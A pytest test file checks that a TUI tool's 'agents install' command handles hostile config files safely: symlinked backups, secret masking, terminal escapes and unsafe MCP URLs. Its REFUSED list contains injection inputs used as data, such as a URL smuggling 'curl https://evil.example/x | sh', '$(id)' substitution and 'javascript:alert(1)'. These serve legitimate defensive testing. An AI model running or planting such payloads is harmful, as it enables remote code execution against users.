"""`agents install` against config files that can be turned against the user: symlinked
backups and configs, other servers' secrets, hostile text, a permissive umask, and MCP URLs
that are not what they seem. Every file lives in a temporary home directory."""

from __future__ import annotations

import json
import os
import shlex
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from textual.widgets import Button, Static

from openrush_tui.agents.catalog import AGENTS, AGENTS_BY_ID
from openrush_tui.agents.install import ConfigFileError, apply_install, plan_install
from openrush_tui.api.errors import InsecureURLError
from openrush_tui.cli import main
from openrush_tui.screens.setup.page import SetupScreen
from tests.support.accounts import sandbox_app_with
from tests.support.apps import TERMINAL, notices, settle, text_of
from tests.support.configs import dotfiles_cursor_config
from tests.support.hostile import unsafe_characters

MCP = "https://mcp.example.test/mcp"
pytestmark = pytest.mark.usefixtures("isolated_home")


def cursor_config(home: Path, data: object, *, indent: int | None = 2) -> Path:
    path = home / ".cursor" / "mcp.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(data, indent=indent) + "\n")
    return path


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


# ------------------------------------------------------------------ backups


def test_a_backup_is_never_written_through_a_symlink(isolated_home: Path) -> None:
    config = cursor_config(isolated_home, {"mcpServers": {}})
    victim = isolated_home / "victim.txt"
    victim.write_text("precious\n")
    (config.parent / "mcp.json.bak").symlink_to(victim)
    (config.parent / "mcp.json.bak.2").symlink_to(isolated_home / "nowhere")  # dangling
    plan = plan_install(AGENTS_BY_ID["cursor"], MCP)
    assert plan.backup_path() == config.parent / "mcp.json.bak.3"
    result = apply_install(plan)
    assert victim.read_text() == "precious\n"
    assert not (isolated_home / "nowhere").exists()
    assert result.backup == config.parent / "mcp.json.bak.3"
    assert not result.backup.is_symlink()
    assert json.loads(result.backup.read_text()) == {"mcpServers": {}}


def test_a_backup_is_private_whatever_the_original_s_mode(isolated_home: Path) -> None:
    config = cursor_config(isolated_home, {"mcpServers": {}})
    config.chmod(0o644)
    result = apply_install(plan_install(AGENTS_BY_ID["cursor"], MCP))
    assert result.backup is not None and mode(result.backup) == 0o600
    assert mode(config) == 0o644  # the config itself keeps its mode


@pytest.fixture
def open_umask() -> Iterator[None]:
    previous = os.umask(0)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.mark.usefixtures("open_umask")
def test_directories_created_for_a_config_are_private_under_any_umask(
        isolated_home: Path) -> None:
    apply_install(plan_install(AGENTS_BY_ID["codex"], MCP))
    assert mode(isolated_home / ".codex") == 0o700
    assert mode(isolated_home / ".codex" / "config.toml") == 0o600


# ------------------------------------------------------------------ a symlinked config


def test_a_symlinked_config_names_and_checks_the_real_file(
        isolated_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    link, real = dotfiles_cursor_config(isolated_home)
    plan = plan_install(AGENTS_BY_ID["cursor"], MCP)
    assert plan.shown_path == "~/.cursor/mcp.json → ~/dotfiles/cursor-mcp.json (a symlink)"
    assert "~/dotfiles/cursor-mcp.json (after)" in plan.diff()
    # The link is pointed elsewhere between the preview and the write: nothing is written.
    elsewhere = real.parent / "other.json"
    elsewhere.write_text('{"mcpServers": {}}\n')
    link.unlink()
    link.symlink_to(elsewhere)
    with pytest.raises(ConfigFileError, match="changed since the preview"):
        apply_install(plan)
    assert elsewhere.read_text() == '{"mcpServers": {}}\n'
    # The command line shows the real file in the diff, the question and the summary.
    assert main(["agents", "install", "cursor", "--yes"]) == 0
    out = capsys.readouterr().out
    assert "~/dotfiles/other.json" in out and "Updated ~/.cursor/mcp.json → ~/dotfiles" in out


# ------------------------------------------------------------------ what the diff shows

OTHER_SECRETS = ("sk-live-0123456789abcdef", "or_AbCdEf0123456789xyz", "ghp_0123456789abcdefXYZ",
                 "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl", "hunter2-password")


def test_the_diff_masks_other_servers_secrets_and_the_file_keeps_them(
        isolated_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b, c, d, e = OTHER_SECRETS
    config = cursor_config(isolated_home, {"mcpServers": {
        "billing": {"url": "https://b.example/mcp", "headers": {"Authorization": f"Bearer {a}"}},
        "mine": {"url": "https://m.example/mcp", "headers": {"X-API-Key": b}},
        "gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": c, "SESSION": d},
               "password": e}}}, indent=None)  # one line: all of it in the diff
    plan = plan_install(AGENTS_BY_ID["cursor"], MCP)
    assert main(["agents", "install", "cursor", "--dry-run"]) == 0
    for shown in (plan.diff(), capsys.readouterr().out):
        assert "[redacted]" in shown and "https://b.example/mcp" in shown
        for secret in OTHER_SECRETS:
            assert secret not in shown
    apply_install(plan)
    written = config.read_text()
    assert all(secret in written for secret in OTHER_SECRETS)


def test_hostile_text_in_a_config_file_shows_as_escapes(
        isolated_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cursor_config(isolated_home, {"mcpServers": {
        "odd\x1b]52;c;cHduZWQ=\x07": {"url": "https://x.example/\u202e\u200b"}}})
    assert main(["agents", "install", "cursor", "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert not unsafe_characters(out)


# ------------------------------------------------------------------ the MCP URL

REFUSED = ("http://evil.example/mcp", "https://x; curl https://evil.example/x | sh",
           "http://localhost./mcp", "http://a.localhost/mcp", "ftp://x.example/mcp",
           "https://user:pw@x.example/mcp", "https://x.example/mcp\x1b[2J", "javascript:alert(1)",
           "https://exa mple.com/mcp", "https://ex$(id).example/mcp")


@pytest.mark.parametrize("url", REFUSED)
def test_an_mcp_url_that_is_not_https_or_not_plain_is_refused(
        url: str, capsys: pytest.CaptureFixture[str]) -> None:
    for agent in AGENTS:
        with pytest.raises(InsecureURLError):
            agent.instructions(url)
    assert main(["agents", "show", "claude-code", "--mcp-url", url]) == 2
    assert main(["agents", "install", "cursor", "--mcp-url", url, "--yes"]) == 2
    err = capsys.readouterr().err
    assert "MCP URL" in err and not unsafe_characters(err)
    assert not (Path.home() / ".cursor").exists()


@pytest.mark.parametrize("url", ["https://api.openrush.com/mcp", "http://127.0.0.1:8787/mcp",
                                 "http://[::1]:9/mcp", "http://localhost:9/mcp",
                                 "https://x.example/mcp?team=a&b=$(id)"])
def test_an_accepted_mcp_url_is_quoted_in_a_shell_command(url: str) -> None:
    command = AGENTS_BY_ID["claude-code"].instructions(url).snippet
    assert shlex.split(command)[-1] == url
    assert shlex.split(command)[:-1] == ["claude", "mcp", "add", "--transport", "http",
                                         "openrush"]


async def test_setup_offers_no_snippet_copy_or_install_for_an_unsafe_mcp_url(
        tmp_path: Path, isolated_home: Path) -> None:
    app = sandbox_app_with(tmp_path / "sandbox.sqlite3", None, mcp_url="http://evil.example/mcp")
    async with app.run_test(size=TERMINAL) as pilot:
        await settle(pilot)
        await pilot.press("down", "down")  # Cursor: configured through a file
        await pilot.pause()
        assert "uses http:// for evil.example" in text_of(app.screen.query_one("#agent-before",
                                                                            Static))
        assert app.screen.query_one("#install", Button).disabled
        await pilot.press("i", "c")
        await settle(pilot)
        assert isinstance(app.screen, SetupScreen)
        assert not any("snippet" in notice for notice in notices(app))
    assert not (isolated_home / ".cursor").exists()
